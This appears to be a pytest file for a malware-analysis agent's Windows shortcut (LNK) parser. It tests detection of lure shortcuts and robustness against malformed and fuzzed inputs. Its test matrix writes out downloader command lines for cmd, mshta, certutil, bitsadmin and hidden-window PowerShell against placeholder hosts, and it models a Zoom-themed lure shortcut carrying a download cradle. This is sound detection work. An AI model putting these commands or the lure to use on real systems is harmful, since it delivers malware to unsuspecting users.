"""LNK parser: real shortcuts from pylnk3, read back with our own MS-SHLLINK reader."""

from __future__ import annotations

import io
from collections.abc import Callable

import pylnk3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.analysis.context import AnalysisContext
from agent.analysis.facts import FormatResult
from agent.analysis.formats import lnk
from tests.corpus import lnk_build as lb


def codes(result: FormatResult) -> set[str]:
    return {r.code for r in result.indicators}


def test_zoom_lure_shortcut(make_ctx: Callable[..., AnalysisContext]) -> None:
    data = lb.zoom_lure()
    assert pylnk3.Lnk(io.BytesIO(data)).arguments == lb.CRADLE  # the sample is what we think it is
    result = lnk.analyze(data, "Zoom Update.lnk", make_ctx())
    f = result.facts
    assert f["target"] == lb.POWERSHELL
    assert f["arguments"] == lb.CRADLE
    assert f["icon_location"] == lb.ZOOM_ICON
    assert f["description"] == "Zoom audio driver update"
    assert f["working_dir"] == r"C:\Windows\System32"
    assert f["show_command"] == "SW_SHOWMINNOACTIVE"
    assert codes(result) == {"LNK_INTERPRETER", "LNK_HIDDEN_WINDOW", "LNK_DOWNLOAD_CRADLE"}
    attack = {r.code: r.attack for r in result.indicators}
    assert attack["LNK_INTERPRETER"] == "T1059.001" and attack["LNK_DOWNLOAD_CRADLE"] == "T1105"
    claims = dict(result.claim_fields)
    assert claims["lnk:icon"] == lb.ZOOM_ICON and claims["lnk:description"] == "Zoom audio driver update"
    assert claims["lnk:target"] == lb.POWERSHELL and claims["lnk:arguments"] == lb.CRADLE
    assert result.text is not None and "DownloadString" in result.text and "powershell.exe" in result.text
    assert result.anomalies == []


def test_benign_document_shortcut(make_ctx: Callable[..., AnalysisContext]) -> None:
    result = lnk.analyze(lb.benign_document(), "report.lnk", make_ctx())
    assert result.facts["target"] == r"C:\Users\alice\Documents\Quarterly report.docx"
    assert result.facts["show_command"] == "SW_SHOWNORMAL"
    assert result.indicators == [] and result.anomalies == []


def test_link_info_local_base_path(make_ctx: Callable[..., AnalysisContext]) -> None:
    # No IDList: the target comes from LinkInfo's LocalBasePath alone.
    result = lnk.analyze(lb.with_local_link_info(), "notes.lnk", make_ctx())
    assert result.facts["target"] == r"C:\Users\alice\Documents\notes.txt"
    assert result.anomalies == []


def test_network_share_target(make_ctx: Callable[..., AnalysisContext]) -> None:
    # pylnk3 writes UNC targets into LinkInfo (network share) plus an EnvironmentVariableDataBlock.
    result = lnk.analyze(lb.build(r"\\files.example\share\docs\a.docx"), "a.lnk", make_ctx())
    assert result.facts["target"] == r"\\files.example\share\docs\a.docx"
    assert result.facts["network_share"].upper() == r"\\FILES.EXAMPLE\SHARE"
    assert "EnvironmentVariableDataBlock" in result.facts["extra_blocks"]


@pytest.mark.parametrize(
    ("target", "arguments", "window", "expected"),
    [
        # cmd with a URL: interpreter + cradle, no hidden window
        (r"C:\Windows\System32\cmd.exe", "/c start https://a.invalid/x.exe", None,
         {"LNK_INTERPRETER", "LNK_DOWNLOAD_CRADLE"}),
        # mshta with a remote HTA
        (r"C:\Windows\System32\mshta.exe", "https://a.invalid/a.hta", None, {"LNK_INTERPRETER", "LNK_DOWNLOAD_CRADLE"}),
        # certutil as a downloader
        (r"C:\Windows\System32\certutil.exe", "-urlcache -split -f http://a.invalid/x x.exe", None,
         {"LNK_INTERPRETER", "LNK_DOWNLOAD_CRADLE"}),
        # bitsadmin /transfer
        (r"C:\Windows\System32\bitsadmin.exe", "/transfer j /download /priority high http://a.invalid/x c:\\x.exe",
         None, {"LNK_INTERPRETER", "LNK_DOWNLOAD_CRADLE"}),
        # -WindowStyle Hidden spelled out, no download: interpreter + hidden
        (lb.POWERSHELL, "-WindowStyle Hidden -File C:\\Users\\Public\\a.ps1", None,
         {"LNK_INTERPRETER", "LNK_HIDDEN_WINDOW"}),
        # minimised window alone with an interpreter counts as hidden-ish
        (r"C:\Windows\System32\wscript.exe", "C:\\Users\\Public\\a.vbs", pylnk3.WINDOW_MINIMIZED,
         {"LNK_INTERPRETER", "LNK_HIDDEN_WINDOW"}),
        # minimised window on a normal program: not evidence
        (r"C:\Program Files\Notepad++\notepad++.exe", None, pylnk3.WINDOW_MINIMIZED, set()),
        # a program shortcut with ordinary arguments: nothing
        (r"C:\Program Files\Zoom\bin\Zoom.exe", "--url=zoommtg://zoom.us/join", None, set()),
    ],
    ids=["cmd-url", "mshta", "certutil", "bitsadmin", "ps-hidden", "wscript-min", "min-benign", "zoom-benign"],
)  # fmt: skip
def test_indicator_matrix(
    make_ctx: Callable[..., AnalysisContext], target: str, arguments: str | None, window: str | None, expected: set[str]
) -> None:
    data = lb.build(target, arguments=arguments, window_mode=window)
    assert codes(lnk.analyze(data, "x.lnk", make_ctx())) == expected


def test_conhost_headless_proxy(make_ctx: Callable[..., AnalysisContext]) -> None:
    result = lnk.analyze(lb.conhost_proxy(), "x.lnk", make_ctx())
    assert codes(result) == {"LNK_INTERPRETER", "LNK_HIDDEN_WINDOW", "LNK_DOWNLOAD_CRADLE"}


def test_interpreter_named_only_in_arguments(make_ctx: Callable[..., AnalysisContext]) -> None:
    # explorer.exe is not an interpreter, but it starts one named in the arguments.
    data = lb.build(r"C:\Windows\explorer.exe", arguments='"C:\\Windows\\System32\\cmd.exe" /c calc')
    (reason,) = lnk.analyze(data, "x.lnk", make_ctx()).indicators
    assert reason.code == "LNK_INTERPRETER" and "cmd through explorer.exe" in reason.message


def test_argument_padding(make_ctx: Callable[..., AnalysisContext]) -> None:
    result = lnk.analyze(lb.padded_arguments(), "x.lnk", make_ctx())
    assert "LNK_ARGUMENT_PADDING" in codes(result)
    assert result.text is not None and "https://a.invalid/x.exe" in result.text


def test_long_arguments_are_cut_in_facts_not_in_text(make_ctx: Callable[..., AnalysisContext]) -> None:
    args = "-c " + "A" * 20_000 + " https://a.invalid/tail"
    result = lnk.analyze(lb.build(lb.POWERSHELL, arguments=args), "x.lnk", make_ctx())
    assert len(result.facts["arguments"]) <= lnk.MAX_FACT_CHARS + 1
    assert result.text is not None and result.text.endswith("https://a.invalid/tail")


@pytest.mark.parametrize(
    "data",
    [
        lb.header_only(),  # every structure promised, none present
        lb.zoom_lure()[:100],  # cut inside the IDList
        lb.zoom_lure()[:-200],  # cut inside StringData
        b"L\x00\x00\x00" + b"\xff" * 200,  # garbage after the header size
        b"",
    ],
    ids=["header-only", "cut-idlist", "cut-strings", "garbage", "empty"],
)
def test_malformed_shortcuts_never_raise(make_ctx: Callable[..., AnalysisContext], data: bytes) -> None:
    result = lnk.analyze(data, "x.lnk", make_ctx())
    assert result.type == "lnk" and result.anomalies
    assert not any("parser error" in a for a in result.anomalies)


def test_cut_strings_keep_what_was_read(make_ctx: Callable[..., AnalysisContext]) -> None:
    result = lnk.analyze(lb.zoom_lure()[:-200], "x.lnk", make_ctx())
    assert result.facts["target"] == lb.POWERSHELL and result.facts["description"] == "Zoom audio driver update"


_SEED = lb.zoom_lure()


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), max_size=8))
def test_mutated_inputs_never_hit_a_parser_error(
    make_ctx: Callable[..., AnalysisContext], mutations: list[tuple[int, int]]
) -> None:
    # Flip bytes anywhere in a valid sample (sizes, offsets, counts, strings): every outcome must become
    # facts or anomalies, never an exception caught by the handler's last-resort guard.
    data = bytearray(_SEED)
    for pos, value in mutations:
        data[pos % len(data)] = value
    result = lnk.analyze(bytes(data), "m.lnk", make_ctx())
    assert not any("parser error" in a for a in result.anomalies), result.anomalies
